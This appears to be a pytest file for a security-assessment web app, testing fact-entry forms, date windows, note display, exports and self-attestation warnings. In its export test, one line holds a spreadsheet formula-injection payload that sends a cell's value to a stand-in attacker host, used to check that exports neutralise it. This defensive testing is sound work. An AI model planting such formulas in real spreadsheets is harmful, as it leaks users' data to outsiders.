"""The fact form that helps: number or band by intent, the as-of window, notes shown wherever
the fact is, readable values, and members told when they attest their own facts."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

import openpyxl
import pytest
from pypdf import PdfReader
from sqlalchemy import func, select

from assessment import queries
from assessment.extensions import db
from assessment.models import FactValue
from assessment.services.facts.as_of import plain_date
from tests.conftest import (
    add_user,
    complete_answers,
    log_in,
    open_test_cycle,
    shipped_catalogue,
    submit_answers,
)
from tests.fixtures.bad_inputs import CORPUS
from tests.test_bad_inputs import assert_inert_html, assert_neutral_cell

CYCLE = "2026-Q4"
TODAY = dt.date.today()
CEO = shipped_catalogue().current_form("ceo")
MFA_BELIEF = next(i for i in CEO.items if i.type == "belief" and i.fact == "mfa_remote_access")


def add_people(app):
    add_user(app, "admin@example.com", permissions=("admin",))
    add_user(app, "it@example.com", role="it_manager", permissions=("fact_owner",), name="Ivy IT")
    add_user(
        app,
        "legal@example.com",
        role="legal",
        permissions=("fact_owner", "committee"),
        name="Dana Cruz",
    )
    add_user(app, "chair@example.com", role="cio", permissions=("committee",), name="Chair")
    add_user(app, "ceo@example.com", role="ceo", name="Casey Chief")
    open_test_cycle(app, CYCLE)  # opened 5 days ago, closes in 30
    return app


@pytest.fixture
def people(app):
    return add_people(app)


def as_user(app, email):
    client = app.test_client()
    log_in(client, email)
    return client


def post(client, fact_id, cycle=CYCLE, **fields):
    data = {"as_of": TODAY.isoformat(), "evidence": "Vulnerability report VM-7", **fields}
    return client.post(f"/facts/{cycle}/{fact_id}", data=data)


def rows(app, fact_id=None):
    with app.app_context():
        query = select(FactValue).order_by(FactValue.id)
        if fact_id:
            query = query.where(FactValue.fact_id == fact_id)
        return [(r.revision, r.value, r.category) for r in db.session.scalars(query)]


def hidden(html, name):
    found = re.search(rf'<input[^>]*name="{name}"[^>]*>', html)
    assert found, name
    value = re.search(r'value="([^"]*)"', found.group(0))
    return value.group(1) if value else ""


# --- number or band: the field the person changed wins --------------------------------------


def test_form_remembers_what_it_was_filled_with(people):
    it = as_user(people, "it@example.com")
    assert post(it, "patch_latency_critical", number="12").status_code == 302
    page = it.get(f"/facts/{CYCLE}/patch_latency_critical").get_data(as_text=True)
    assert re.search(r'<input[^>]*name="number"[^>]*value="12"', page)
    assert hidden(page, "number_before") == "12" and hidden(page, "category_before") == ""
    assert "fact_form.js" in page and "<script>" not in page  # no inline script (CSP)


def test_choosing_a_band_over_a_prefilled_number_keeps_the_band(people):
    it = as_user(people, "it@example.com")
    post(it, "patch_latency_critical", number="12")
    # Exactly what a browser without the script sends: the number still there, a band chosen.
    saved = post(
        it,
        "patch_latency_critical",
        number="12",
        number_before="12",
        category="d15_30",
        category_before="",
    )
    assert saved.status_code == 302
    assert rows(people)[-1] == (2, "d15_30", "d15_30")


def test_typing_a_number_over_a_prefilled_band_keeps_the_number(people):
    it = as_user(people, "it@example.com")
    post(it, "patch_latency_critical", category="over_30")
    saved = post(
        it,
        "patch_latency_critical",
        number="9",
        number_before="",
        category="over_30",
        category_before="over_30",
    )
    assert saved.status_code == 302
    assert rows(people)[-1] == (2, 9, "under_15")


def test_a_client_sending_only_the_band_is_understood(people):
    """Fields not sent keep what the server filled in, so that too is 'unchanged'."""
    it = as_user(people, "it@example.com")
    post(it, "patch_latency_critical", number="12")
    assert post(it, "patch_latency_critical", category="under_15").status_code == 302
    assert rows(people)[-1] == (2, "under_15", "under_15")


def test_a_date_fact_chooses_the_band_over_a_prefilled_date(people):
    it = as_user(people, "it@example.com")
    tested = (TODAY - dt.timedelta(days=20)).isoformat()
    post(it, "backup_restore_test", date=tested)
    page = it.get(f"/facts/{CYCLE}/backup_restore_test").get_data(as_text=True)
    assert hidden(page, "date_before") == tested
    saved = post(it, "backup_restore_test", date=tested, date_before=tested, category="never")
    assert saved.status_code == 302
    assert rows(people)[-1] == (2, "never", "over_12m")


def test_changing_both_number_and_band_names_both_fields(people):
    it = as_user(people, "it@example.com")
    post(it, "patch_latency_critical", number="12")
    refused = post(
        it,
        "patch_latency_critical",
        number="20",
        number_before="12",
        category="under_15",
        category_before="",
    )
    html = refused.get_data(as_text=True)
    assert refused.status_code == 422
    message = "You changed both “Number of days” and the band: keep one and clear the other."
    assert html.count(message) == 2  # under the number and under the bands
    assert 'id="number-error"' in html and 'id="category-error"' in html
    assert len(rows(people)) == 1


def test_no_value_and_no_evidence_get_both_messages(people):
    it = as_user(people, "it@example.com")
    refused = it.post(f"/facts/{CYCLE}/patch_latency_critical", data={"as_of": TODAY.isoformat()})
    html = refused.get_data(as_text=True)
    assert refused.status_code == 422
    assert "Enter a number or choose a band." in html
    assert "Say where the proof lives" in html
    yes_no = it.post(f"/facts/{CYCLE}/mfa_remote_access", data={"as_of": TODAY.isoformat()})
    assert "Choose one of the options." in yes_no.get_data(as_text=True)
    assert rows(people) == []


# --- the as-of window -------------------------------------------------------------------------


def add_closed_cycle(app, cycle_id="2026-Q2", opens_ago=200, closes_ago=100):
    with app.app_context():
        queries.create_cycle(
            db.session,
            cycle_id,
            TODAY - dt.timedelta(days=opens_ago),
            TODAY - dt.timedelta(days=closes_ago),
        )
        db.session.commit()


@pytest.mark.parametrize(
    ("days_from_today", "accepted"),
    [(-97, True), (-98, False), (0, True), (1, False)],
    ids=["first-day", "day-before-first", "today", "tomorrow"],
)
def test_as_of_window_around_an_open_cycle(people, days_from_today, accepted):
    # The cycle opened 5 days ago: 92 days before that is 97 days ago; it closes in 30 days,
    # but no fact may describe the future, so today is the last day.
    as_of = TODAY + dt.timedelta(days=days_from_today)
    response = post(
        as_user(people, "it@example.com"), "mfa_remote_access", category="yes", as_of=as_of
    )
    assert (response.status_code == 302) is accepted
    if not accepted:
        html = response.get_data(as_text=True)
        earliest, latest = TODAY - dt.timedelta(days=97), TODAY
        assert (
            f"A fact for {CYCLE} must describe the company between {plain_date(earliest)} and "
            f"{plain_date(latest)}"
        ) in html
        assert ("is in the future" in html) is (days_from_today > 0)
        assert 'id="as_of-error"' in html
        assert rows(people) == []


@pytest.mark.parametrize(
    ("days_from_today", "accepted"),
    [(-200 - 92, True), (-200 - 93, False), (-100 + 31, True), (-100 + 32, False)],
    ids=["first-day", "too-early", "last-day", "too-late"],
)
def test_as_of_window_around_a_closed_cycle(people, days_from_today, accepted):
    add_closed_cycle(people)  # opened 200 days ago, closed 100 days ago
    as_of = TODAY + dt.timedelta(days=days_from_today)
    response = post(
        as_user(people, "it@example.com"),
        "mfa_remote_access",
        cycle="2026-Q2",
        category="yes",
        as_of=as_of,
    )
    assert (response.status_code == 302) is accepted, response.get_data(as_text=True)[:300]


def test_as_of_window_follows_configuration(app_factory):
    app = add_people(app_factory(FACT_AS_OF_DAYS_BEFORE=10, FACT_AS_OF_DAYS_AFTER=0))
    it = as_user(app, "it@example.com")
    opens = TODAY - dt.timedelta(days=5)
    too_early = post(it, "mfa_remote_access", category="no", as_of=opens - dt.timedelta(days=11))
    assert too_early.status_code == 422
    assert f"between {plain_date(opens - dt.timedelta(days=10))} and" in too_early.text
    assert "from 10 days before the cycle opens to 0 days after it closes" in too_early.text
    ok = post(it, "mfa_remote_access", category="no", as_of=opens - dt.timedelta(days=10))
    assert ok.status_code == 302


@pytest.mark.parametrize("as_of", ["1999-01-01", "2031-05-01"])
def test_the_reviewers_dates_are_refused(people, as_of):
    response = post(
        as_user(people, "it@example.com"), "patch_latency_critical", number="9", as_of=as_of
    )
    assert response.status_code == 422 and "must describe the company between" in response.text
    assert rows(people) == []


def test_as_of_prefills_with_the_earlier_of_today_and_the_closing_date(people):
    add_closed_cycle(people)
    it = as_user(people, "it@example.com")
    open_form = it.get(f"/facts/{CYCLE}/mfa_remote_access").get_data(as_text=True)
    assert re.search(rf'name="as_of"[^>]*value="{TODAY.isoformat()}"', open_form)
    closed_form = it.get("/facts/2026-Q2/mfa_remote_access").get_data(as_text=True)
    closes = (TODAY - dt.timedelta(days=100)).isoformat()
    assert re.search(rf'name="as_of"[^>]*value="{closes}"', closed_form)
    assert f"Allowed: {plain_date(TODAY - dt.timedelta(days=292))} to " in closed_form


def test_api_obeys_the_window_and_defaults_to_the_closing_date(app, client, runner):
    add_user(app, "owner@example.com", role="it_manager", permissions=("fact_owner",))
    token = runner.invoke(args=["tokens", "create", "owner@example.com"]).output.split()[-1]
    headers = {"Authorization": f"Bearer {token}"}
    open_test_cycle(app, CYCLE)
    add_closed_cycle(app)
    refused = client.put(
        f"/api/v1/cycles/{CYCLE}/facts",
        json={"facts": {"mfa_remote_access": "no"}, "as_of": "1999-01-01"},
        headers=headers,
    )
    assert refused.status_code == 422
    errors = refused.get_json()["errors"]
    assert errors[0]["field"] == "as_of" and "must describe the company" in errors[0]["message"]
    accepted = client.put(
        "/api/v1/cycles/2026-Q2/facts", json={"facts": {"mfa_remote_access": "no"}}, headers=headers
    )
    assert accepted.status_code == 200
    with app.app_context():
        stored = db.session.scalar(select(FactValue.as_of))
    assert stored == TODAY - dt.timedelta(days=100)  # the closing date, inside the window
    assert rows(app) == [(1, "no", "no")]


# --- values read once, notes shown everywhere ------------------------------------------------


@pytest.mark.parametrize(
    ("fact_id", "number", "shown"),
    [
        ("mfa_email", "100", "100%, band: every mailbox"),
        ("issc_meetings", "4", "4, band: 4 times or more"),
        ("patch_latency_critical", "1", "1 day, band: under 15 days"),
        ("exec_notification_latency", "30", "30 hours, band: more than 24 hours"),
    ],
)
def test_values_read_once_with_unit_and_band(people, fact_id, number, shown):
    owner = (
        "legal@example.com"
        if fact_id in ("issc_meetings", "exec_notification_latency")
        else "it@example.com"
    )
    client = as_user(people, owner)
    assert post(client, fact_id, number=number).status_code == 302
    report = client.get(f"/facts/{CYCLE}").get_data(as_text=True)
    history = client.get(f"/facts/{CYCLE}/{fact_id}").get_data(as_text=True)
    assert shown in report and shown in history
    assert "(100%))" not in report and "(4 times or more)" not in report


NOTE = "Two VPN groups still exempt; approved by the CISO until March."


def test_note_is_shown_in_history_report_and_gap_report(people):
    answers = complete_answers("ceo")
    answers[MFA_BELIEF.id] = "yes"
    submit_answers(people, "ceo@example.com", answers)
    it = as_user(people, "it@example.com")
    assert post(it, "mfa_remote_access", category="partly", note=NOTE).status_code == 302
    history = it.get(f"/facts/{CYCLE}/mfa_remote_access").get_data(as_text=True)
    assert re.search(rf'<td class="note-cell">{re.escape(NOTE)}</td>', history)
    assert "“Why it changed” is asked only for changes after the report was attested." in history
    assert NOTE in it.get(f"/facts/{CYCLE}").get_data(as_text=True)
    chair = as_user(people, "chair@example.com")
    gap = chair.get(f"/gaps/{CYCLE}").get_data(as_text=True)
    assert f"Note: {NOTE}" in gap


def test_note_travels_in_every_export_formula_neutralised(people):
    answers = complete_answers("ceo")
    answers[MFA_BELIEF.id] = "yes"
    submit_answers(people, "ceo@example.com", answers)
    formula = '=HYPERLINK("https://attacker.example/?d="&A1,"Click")'
    it = as_user(people, "it@example.com")
    assert post(it, "mfa_remote_access", category="partly", note=formula).status_code == 302
    chair = as_user(people, "chair@example.com")

    table = list(
        csv.reader(io.StringIO(chair.get(f"/gaps/{CYCLE}/export.csv").data.decode("utf-8-sig")))
    )
    assert table[0][-1] == "fact note"
    mfa_rows = [r for r in table[1:] if r[3] == MFA_BELIEF.id]
    assert mfa_rows and all(r[-1] == "'" + formula for r in mfa_rows)

    book = openpyxl.load_workbook(io.BytesIO(chair.get(f"/gaps/{CYCLE}/export.xlsx").data))
    sheet = book["Reported facts"]
    header = [c.value for c in sheet[1]]
    line = next(
        r for r in sheet.iter_rows(min_row=2, values_only=True) if r[0] == "MFA on remote access"
    )
    assert_neutral_cell(line[header.index("note")], formula)
    for row in sheet.iter_rows():
        assert all(cell.data_type != "f" for cell in row)

    body = chair.get(f"/gaps/{CYCLE}/export.json").get_json()
    assert body["facts"]["mfa_remote_access"]["note"] == formula  # JSON keeps it exactly

    pdf = chair.get(f"/gaps/{CYCLE}/export.pdf")
    text = "".join(p.extract_text() for p in PdfReader(io.BytesIO(pdf.data)).pages)
    assert "Reported facts" in text and "HYPERLINK" in text


def test_bad_inputs_in_the_note_and_evidence_stay_text(people):
    it = as_user(people, "it@example.com")
    for text in CORPUS:
        response = post(it, "mfa_remote_access", category="no", evidence=text, note=text)
        if "\u202e" in text:  # invisible formatting is refused with a message, nothing stored
            assert response.status_code == 422 and "invisible formatting" in response.text
            continue
        assert response.status_code == 302, text
        assert_inert_html(it.get(f"/facts/{CYCLE}/mfa_remote_access").get_data(as_text=True), text)
        assert_inert_html(it.get(f"/facts/{CYCLE}").get_data(as_text=True), text)
    assert len(rows(people)) == len(CORPUS) - 1


# --- attesting one's own facts ----------------------------------------------------------------


def test_member_attesting_their_own_facts_is_told_before_and_named_after(people):
    legal = as_user(people, "legal@example.com")
    for fact_id, number in (("vendor_breach_terms", "55"), ("issc_meetings", "3")):
        assert post(legal, fact_id, number=number).status_code == 302
    assert (
        post(as_user(people, "it@example.com"), "mfa_remote_access", category="yes").status_code
        == 302
    )

    before = legal.get(f"/facts/{CYCLE}").get_data(as_text=True)
    assert (
        "You report 2 of these facts yourself: Breach-notice terms in critical vendor contracts, "
        "Security steering committee meetings. Consider asking another member to attest."
    ) in before
    chair_page = as_user(people, "chair@example.com").get(f"/facts/{CYCLE}").get_data(as_text=True)
    assert "You report" not in chair_page  # the CIO reports none of the three

    assert legal.post(f"/facts/{CYCLE}/attest").status_code == 302  # visible, never blocked
    after = legal.get(f"/facts/{CYCLE}").get_data(as_text=True)
    assert "Attested by Dana Cruz (Legal executive), who reports 2 of these facts on " in after


def test_second_attester_is_shown_as_checking(people):
    add_user(people, "hr@example.com", role="hr", permissions=("committee",), name="Harper HR")
    post(as_user(people, "it@example.com"), "mfa_remote_access", category="yes")
    hr = as_user(people, "hr@example.com")
    assert "You are the second check on 1 of these facts: " in hr.get(f"/facts/{CYCLE}").text
    hr.post(f"/facts/{CYCLE}/attest")
    assert "Harper HR (HR executive), who checks 1 of these facts" in hr.get(f"/facts/{CYCLE}").text


def test_nothing_is_stored_when_refused(people):
    it = as_user(people, "it@example.com")
    post(it, "patch_latency_critical", number="20", number_before="", category="under_15")
    with people.app_context():
        assert db.session.scalar(select(func.count()).select_from(FactValue)) == 0


@pytest.mark.parametrize(
    ("opens", "closes"),
    [(dt.date.min, dt.date(2026, 12, 31)), (dt.date(2026, 10, 1), dt.date.max)],
    ids=["opens-year-1", "closes-year-9999"],
)
def test_as_of_window_holds_at_the_ends_of_the_calendar(opens, closes):
    from assessment.services.facts.as_of import as_of_window

    window = as_of_window("X", opens, closes, dt.date(2026, 12, 7), days_before=92, days_after=31)
    assert window.earliest <= opens and window.latest == dt.date(2026, 12, 7)
